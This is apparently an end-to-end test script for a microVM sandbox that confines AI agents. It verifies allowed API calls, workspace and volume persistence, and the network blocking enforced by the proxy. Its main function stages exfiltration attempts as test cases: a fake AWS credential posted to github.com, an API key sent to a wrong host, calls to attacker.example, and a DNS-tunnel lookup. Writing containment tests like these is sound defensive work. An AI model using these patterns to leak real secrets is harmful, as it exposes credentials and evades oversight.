"""The agent of the microVM end-to-end cage: standard library, curl-free, run at its start.

    python3 /e2e/agent.py INTERNET_IP

It cannot be `podman exec`ed into (it runs in the guest), so it tries everything once
(the allowed call until the key is set), prints `RESULTS {json}` (read back through
`agentcage cage logs -s agent`), then keeps calling two hosts every few seconds:
api.openai.com, which only a live `domain add` lets through, and api.anthropic.com with
the key's placeholder, whose real value a live `secret set` changes. It counts its starts
in the named volume at /data, which must keep them across stop, start and update, and in
the workspace at /workspace, a writable bind mount shared live with the host (virtiofs),
where it also answers the host's `ping` with a `pong`. Every request
carries `x-vm: 1`, so the fake internet's records tell this cage's arrivals from the
session cage's.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request
from typing import Any

KEY = os.environ.get("ANTHROPIC_API_KEY", "")
FAKE_AWS = (
    "aws_access_key_id=AKIAZ7VQ3XK2M4N5P6RT"
    "&aws_secret_access_key=Zq8Xv2Lm4Nc6Bt1Ry3Wu5Ks7Hd9Jf0Gp2Ea4Tb6"
)
TUNNEL = "mzxw6ytboi2dgmjqgeytenbvgy3tqojqgeytenbvgy3tqojqgeytenbvgy3tq.attacker.example"


def http(method: str, url: str, body: str | None = None, **headers: str) -> dict[str, Any]:
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    request = urllib.request.Request(
        url, data=body.encode() if body else None, method=method, headers={"x-vm": "1", **headers}
    )
    try:
        with urllib.request.urlopen(request, timeout=90, context=context) as response:
            return {"status": response.status, "body": response.read(500).decode()}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code, "body": exc.read(500).decode()}
    except (OSError, urllib.error.URLError) as exc:
        return {"error": f"{type(exc).__name__}: {exc}"}


def dns(name: str, qtype: str) -> dict[str, Any]:
    with open("/etc/resolv.conf") as handle:
        server = next(line.split()[1] for line in handle if line.startswith("nameserver"))
    argv = ["dig", f"@{server}", name, qtype, "+time=10", "+tries=2", "+noall", "+comments",
            "+answer"]  # fmt: skip
    out = subprocess.run(argv, capture_output=True, text=True, check=False).stdout
    status = out.split("status: ", 1)[1].split(",", 1)[0] if "status: " in out else out[-200:]
    answers = [line.split()[-1] for line in out.splitlines() if line and not line.startswith(";")]
    return {"rcode": status, "answers": answers}


def direct(address: str, port: int) -> dict[str, Any]:
    """A raw connection to an address: default deny lets the connect complete at the
    proxy's deny listener, which resets it before any byte comes back."""
    connected = False
    try:
        with socket.create_connection((address, port), timeout=5) as conn:
            connected = True
            conn.sendall(b"GET /direct-ip HTTP/1.0\r\n\r\n")
            return {"connected": True, "answered": bool(conn.recv(100))}
    except OSError as exc:
        return {"connected": connected, "answered": False, "error": str(exc)}


def allowed() -> dict[str, Any]:
    """The key is set right after the cage is created: until then the proxy refuses the
    placeholder (fail closed), so ask again until that refusal is gone."""
    deadline = time.monotonic() + 300
    while True:
        outcome = http("POST", "https://api.anthropic.com/echo-key", "x", **{"x-api-key": KEY})
        if "is not set" not in str(outcome.get("body")) or time.monotonic() > deadline:
            return outcome
        time.sleep(3)


def volume(path: str = "/data/starts") -> dict[str, object]:
    """What earlier starts left in the named volume, then this start's line added."""
    before: list[str] = []
    try:
        if os.path.exists(path):
            with open(path) as handle:
                before = handle.read().splitlines()
        with open(path, "a") as handle:
            handle.write(f"{len(before) + 1} {' '.join(sys.argv[2:])}\n")
    except OSError as exc:
        return {"error": str(exc)}
    return {"before": before, "owner": os.stat(path).st_uid}


def workspace(path: str = "/workspace") -> dict[str, object]:
    """The live workspace: what the host put there, this start's line added to the agent's
    own file (and its owner as the guest sees it), and a write to `:ro` /e2e refused."""
    found: dict[str, object] = {}
    try:
        found["listing"] = sorted(os.listdir(path))
        with open(f"{path}/from-host.txt") as handle:
            found["host_file"] = handle.read()
        with open(f"{path}/by-agent.txt", "a") as handle:
            handle.write(f"start {' '.join(sys.argv[2:])}\n")
        found["owner"] = os.stat(f"{path}/by-agent.txt").st_uid
        os.mkdir(f"{path}/agent-dir-{len(found['listing'])}")  # type: ignore[arg-type]
    except OSError as exc:
        found["error"] = str(exc)
    try:
        with open("/e2e/written-by-agent", "w") as handle:
            handle.write("x")
        found["ro_write"] = "written"
    except OSError as exc:
        found["ro_write"] = errno.errorcode.get(exc.errno or 0, str(exc))
    return found


def pong(path: str = "/workspace") -> None:
    """The host's `ping`, answered live: what it says, back in `pong`."""
    try:
        if os.path.exists(f"{path}/ping") and not os.path.exists(f"{path}/pong"):
            with open(f"{path}/ping") as handle, open(f"{path}/pong", "w") as out:
                out.write("pong " + handle.read())
    except OSError as exc:
        print(f"PONG failed: {exc}", flush=True)


def main(internet: str) -> None:
    results = {
        "volume": volume(),
        "workspace": workspace(),
        "env_key": KEY,
        "argv": sys.argv[2:],  # `cage update` adds a word to the command
        "placeholders": sorted(k for k, v in os.environ.items() if v == "{{" + k + "}}"),
        "allowed": allowed(),
        "blocked_host": http("GET", "https://attacker.example/collect"),
        "leak": http("POST", "https://github.com/upload", FAKE_AWS),
        "placeholder_wrong_host": http(
            "POST", "https://github.com/steal", "x", **{"x-api-key": KEY}
        ),
        "dns_sinkhole": dns("vm-exfil.attacker.example", "A"),
        "dns_tunnel_txt": dns(TUNNEL, "TXT"),
        "direct_ip": direct(internet, 443),
    }
    print("RESULTS " + json.dumps(results), flush=True)
    reached = False
    while True:
        pong()
        if not reached and http("GET", "https://api.openai.com/vm-later").get("status") == 200:
            print("LATER reached", flush=True)
            reached = True
        http("POST", "https://api.anthropic.com/echo-key", "again", **{"x-api-key": KEY})
        time.sleep(3)


if __name__ == "__main__":
    main(sys.argv[1])
